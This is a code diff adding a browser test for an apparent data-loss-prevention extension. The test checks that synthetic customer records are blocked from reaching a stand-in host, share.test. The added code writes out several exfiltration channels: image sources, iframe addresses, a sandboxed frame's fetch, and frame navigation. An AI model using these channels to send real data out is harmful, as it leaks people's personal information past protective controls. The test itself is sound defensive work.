@@ -335,6 +335,38 @@ test.describe('upload guard', () => {
     expect(sites.requests.filter((r) => r.host === 'share.test' && r.path.startsWith('/q-') && r.path !== '/q-harmless' && r.path !== '/q-search')).toEqual([]);
   });
 
+  test('customers in the address of an image, a frame, a navigation or a sandboxed frame\'s fetch never reach the blocked site (network backstop)', async ({ ext, sites }) => {
+    await ext.importPolicy(demoPolicy());
+    const page = await ext.page();
+    await page.goto(sites.url('news.test', '/'));
+    sites.clearRequests();
+    const rows = generateCustomers(13, 6) as { name: string; email: string; phone: string }[];
+    const share = sites.url('share.test', '/');
+    await page.evaluate(
+      async ([d, phones, share]) => {
+        const q = '?d=' + encodeURIComponent(d);
+        new Image().src = share + 'u-img' + q;
+        const f = document.createElement('iframe');
+        f.src = share + 'u-frame?p=' + phones;
+        document.body.append(f);
+        // A frame sandboxed without scripts runs no content script: its fetch is the browser's own.
+        const s = document.createElement('iframe');
+        s.setAttribute('sandbox', 'allow-same-origin');
+        document.body.append(s);
+        await (s.contentWindow as any).fetch(share + 'u-sandbox' + q, { mode: 'no-cors' }).catch(() => {});
+        const w = document.createElement('iframe');
+        document.body.append(w);
+        w.contentWindow!.location.href = share + 'u-nav' + q;
+        // Harmless addresses on the same site still load.
+        new Image().src = share + 'u-harmless?page=2&from=2024-01-15';
+        await new Promise((r) => setTimeout(r, 1500));
+      },
+      [rows.map((r) => `${r.name},${r.email},${r.phone}`).join('\n'), rows.map((r) => r.phone).join(','), share],
+    );
+    await expect.poll(() => sites.requests.some((r) => r.path === '/u-harmless')).toBe(true);
+    expect(sites.requests.filter((r) => r.host === 'share.test' && r.path.startsWith('/u-') && r.path !== '/u-harmless').map((r) => r.path)).toEqual([]);
+  });
+
   test('the same from an about:blank iframe and from a worker (network backstop)', async ({ ext, sites }) => {
     const page = await open(ext, sites, 'share.test');
     sites.clearRequests();
